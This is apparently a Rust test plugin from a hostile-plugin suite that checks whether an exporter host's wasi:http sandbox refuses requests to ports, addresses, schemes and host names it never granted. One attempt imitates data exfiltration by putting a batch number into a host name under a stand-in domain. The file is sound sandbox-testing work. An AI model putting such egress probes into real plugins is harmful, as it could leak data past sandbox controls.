//! test-httpout: a test guest (not a default plugin) of the exporter world that sends
//! wasi:http requests to destinations it was not granted, and to the one it was, for the
//! hostile-plugin suite.
//!
//! Settings: `granted`, a URL it was granted (`http://localhost:P/ok`); `denied_port`, a port
//! on 127.0.0.1 it was not granted; `repointed`, `IP:PORT` text: the granted port on an
//! address the granted name does not resolve to (`127.0.0.2:P`). Every export tries them all,
//! a host name it was not granted (which the host must refuse without looking it up), and
//! HTTPS to the granted host and port; then it answers a permanent error (the host drops the
//! batch, no retry loop) whose text is a one-line JSON object with one entry per attempt:
//! `"reached"` (an HTTP answer came back), `"denied"` (glint refused the destination), or the
//! error's text.

use std::time::Duration;

use glint_sdk::export::{Settings, json_strings};
use glint_sdk::http::{HttpError, Request, Url};
use glint_sdk::{Batch, ExportError, ExporterPlugin, PluginInfo, Schema};

/// Longest wait for one attempt: a refused one fails at once, this only bounds a silent one
/// (well within the exporter's deadline, even for all of them).
const TIMEOUT: Duration = Duration::from_secs(2);

/// What every attempt sends.
const BODY: &[u8] = b"glint-test-httpout";

/// The verdicts the test reads.
const REACHED: &str = "reached";
const DENIED: &str = "denied";

#[derive(Default)]
struct HttpOut;

impl ExporterPlugin for HttpOut {
    fn info() -> PluginInfo {
        glint_sdk::exporter(
            "test-httpout",
            "Test guest: sends HTTP requests where it was not granted (wasi:http sandbox test)",
        )
    }

    fn export(&mut self, _schema: &[Schema], batches: &[Batch]) -> Result<(), ExportError> {
        let settings = Settings::load();
        let granted = settings.text("granted");
        let mut report: Vec<(&str, String)> = Vec::new();

        // (a) The granted destination: must answer.
        report.push((
            "granted",
            match &granted {
                Some(url) => attempt(url),
                None => "not set: `granted`".to_string(),
            },
        ));
        // (b) Another port on the same address: must be refused.
        report.push((
            "denied_port",
            match settings.int("denied_port") {
                Some(port) => attempt(&format!("http://127.0.0.1:{port}/x")),
                None => "not set: `denied_port`".to_string(),
            },
        ));
        // (c) The granted port on an address the granted name does not lead to.
        report.push((
            "repointed",
            match settings.text("repointed") {
                Some(addr) => attempt(&format!("http://{}/x", addr.trim())),
                None => "not set: `repointed`".to_string(),
            },
        ));
        // (d) A name never granted, carrying data in it: refused before any lookup.
        let seq = batches.first().map_or(0, |b| b.seq);
        report.push((
            "exfil_name",
            attempt(&format!("http://glint-exfil-{seq}.example/x")),
        ));
        // (e) HTTPS to the granted host and port, which was granted as plain http.
        report.push((
            "https",
            match &granted {
                Some(url) => match Url::parse(url) {
                    Ok(u) => attempt(&format!("https://{}/x", u.authority)),
                    Err(e) => e.to_string(),
                },
                None => "not set: `granted`".to_string(),
            },
        ));

        let mut json = String::new();
        json_strings(&report, &mut json);
        Err(ExportError::Permanent(json))
    }
}

/// One POST: its verdict.
fn attempt(url: &str) -> String {
    match Request::post(url, "text/plain", BODY.to_vec())
        .timeout(TIMEOUT)
        .send()
    {
        Ok(_) => REACHED.to_string(),
        Err(HttpError::Denied(_)) => DENIED.to_string(),
        Err(e) => e.to_string(),
    }
}

glint_sdk::export_exporter!(HttpOut);
